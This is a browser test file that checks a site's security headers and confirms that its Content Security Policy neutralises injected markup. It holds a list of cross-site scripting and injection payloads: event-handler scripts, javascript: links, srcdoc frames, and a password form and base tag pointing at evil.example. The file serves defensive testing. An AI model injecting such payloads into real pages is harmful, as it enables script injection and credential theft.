import t from 'tap'
import { crawl } from '../fixtures/crawl.ts'
import { startTestSite } from '../fixtures/running-site.ts'
import { until } from '../fixtures/until.ts'
import { openBrowser, sizes } from './browser.ts'

const site = await startTestSite()
const browser = await openBrowser()
t.teardown(async () => {
  await browser.close()
  await site.close()
})
t.setTimeout(840_000)
const found = await crawl(site, 1)

t.test('every answer says what a browser may do with it', async (t) => {
  for (const path of ['/', '/telugu', '/no-such-page', '/amp', '/%00']) {
    for (const round of ['made', 'from the cache']) {
      const { headers } = await site.get(path)
      const policy = headers.get('content-security-policy') ?? ''
      t.match(policy, /object-src 'none'|default-src 'none'/, `${path} ${round}`)
      t.match(policy, /base-uri 'none'/)
      t.notMatch(/script-src [^;]*/.exec(policy)?.[0] ?? '', /unsafe|\*/)
      t.equal(headers.get('x-content-type-options'), 'nosniff')
      t.equal(headers.get('referrer-policy'), 'strict-origin-when-cross-origin')
      t.equal(headers.get('cross-origin-opener-policy'), 'same-origin-allow-popups')
      t.match(headers.get('permissions-policy'), /camera=\(\)/)
      if (path !== '/amp') t.match(policy, /frame-ancestors '(?:self|none)'/)
    }
  }
})

t.test('the headers of any page fit where proxies keep them', async (t) => {
  for (const { url } of found) {
    const { headers } = await site.get(url)
    const bytes = [...headers].reduce((sum, [name, value]) => sum + name.length + value.length + 4, 60)
    t.ok(bytes < 4_096, `${url}: ${bytes}`)
  }
})

t.test('a script that got in does not run, and the browser tells of it', async (t) => {
  // A service worker would answer in place of the route below.
  const context = await browser.newContext({ ...sizes.desktop, serviceWorkers: 'block' })
  const page = await context.newPage()
  const told: string[] = []
  page.on('console', (message) => {
    if (message.type() === 'error' && message.text().includes('Content Security Policy')) told.push(message.text())
  })
  await page.route(`${site.url}/`, async (route) => {
    const answer = await route.fetch()
    await route.fulfill({ response: answer, body: (await answer.text()).replace('<main', '<script>window.got = "in"</script><img src="x:" onerror="window.got = 1"><main') })
  })
  await page.goto(site.url, { waitUntil: 'load' })
  t.equal(await page.evaluate(() => (window as unknown as { got?: unknown }).got), undefined)
  // What the browser finds is told to this process a moment later: by this the walk over all pages knows a page that breaks its policy.
  await until('both violations are told', () => told.length >= 2)
  await context.close()
})

/** What an attacker would put into a page, by what it tries; `got` is written by whatever runs. */
const injections: Readonly<Record<string, string>> = {
  'a script': '<script>window.got = "a script"</script>',
  'a script of another site': '<script src="https://evil.example/script.js"></script>',
  'a handler of a failed picture': `<img src="x:" onerror="window.got = 'onerror'">`,
  'handlers of elements': `<button id="clicked" onclick="window.got = 'onclick'" onfocus="window.got = 'onfocus'">Click</button><svg onload="window.got = 'onload'"></svg><details open ontoggle="window.got = 'ontoggle'"></details>`,
  'a link to a script': `<a id="link" href="javascript:window.got = 'a link'">Follow</a>`,
  'a frame with a document': `<iframe srcdoc="<script>parent.got = 'srcdoc'</script><img src=x: onerror=parent.got=1>"></iframe>`,
  'a frame with a form': '<iframe srcdoc="<form id=inner action=https://evil.example/inner><input name=a></form>"></iframe>',
  'frames of another site': '<iframe src="https://evil.example/frame"></iframe><iframe src="data:text/html,<script>parent.got=1</script>"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
  'a form to another site': '<form id="stolen" action="https://evil.example/form" method="post"><input name="password" value="secret"><button id="send">Send</button></form>',
  'a button that sends elsewhere': '<form action="/"><button id="elsewhere" formaction="https://evil.example/button">Send</button></form>',
  'another base': '<base href="https://evil.example/">',
  'styles': '<style>main { display: none !important }</style><link rel="stylesheet" href="https://evil.example/style.css">',
  'style attributes': '<p id="styled" style="background: url(javascript:window.got=1); behavior: url(https://evil.example/x.htc); -moz-binding: url(https://evil.example/x.xml); position: fixed">Styled</p>',
}

for (const path of ['/', '/amp']) {
  t.test(`what got past sanitising into ${path} has no effect: no script runs, no form leaves the site, no frame of another is loaded`, async (t) => {
    const context = await browser.newContext({ ...sizes.desktop, serviceWorkers: 'block' })
    const page = await context.newPage()
    const reached: string[] = []
    await page.route('https://evil.example/**', (route) => {
      reached.push(route.request().url())
      return route.fulfill({ status: 200, contentType: 'text/html', headers: { 'access-control-allow-origin': '*' }, body: 'evil' })
    })
    // As it was served, headers and all, with this in its body.
    await page.route(site.url + path, async (route) => {
      const answer = await route.fetch()
      await route.fulfill({ response: answer, body: (await answer.text()).replace('</body>', `${Object.values(injections).join('\n')}</body>`) })
    })
    await page.goto(site.url + path, { waitUntil: 'load' })
    // Markup alone: a page that cannot run scripts of its own has to be looked at all the same.
    t.equal(await page.locator('#stolen').count(), 1, 'it is in the page')
    const submit = () => page.evaluate(() => {
      document.getElementById('clicked')?.click()
      document.getElementById('clicked')?.focus()
      document.getElementById('link')?.click()
      document.getElementById('send')?.click()
      document.getElementById('elsewhere')?.click()
      document.querySelector<HTMLFormElement>('#stolen')?.requestSubmit()
      document.querySelector<HTMLFormElement>('#stolen')?.submit()
      for (const frame of document.querySelectorAll('iframe')) frame.contentDocument?.querySelector<HTMLFormElement>('#inner')?.submit()
    })
    await submit()
    // A navigation that was begun would come before the answer to this.
    await page.evaluate(() => fetch('/healthz').then((answer) => answer.text()))
    t.same(reached, [])
    t.equal(new URL(page.url()).origin, site.url, 'the reader is on this site')
    t.same(await page.evaluate(() => ({ got: (window as unknown as { got?: unknown }).got, base: document.baseURI.startsWith(location.origin) })), { got: undefined, base: true })
    for (const frame of page.frames().slice(1)) t.notMatch(await frame.content().catch(() => ''), />evil</)
    // AMP styles its elements as it goes, and needs that.
    if (path === '/') t.not(await page.evaluate(() => getComputedStyle(document.querySelector('main') ?? document.body).display), 'none', 'an injected style has no effect')
    await context.close()
  })
}
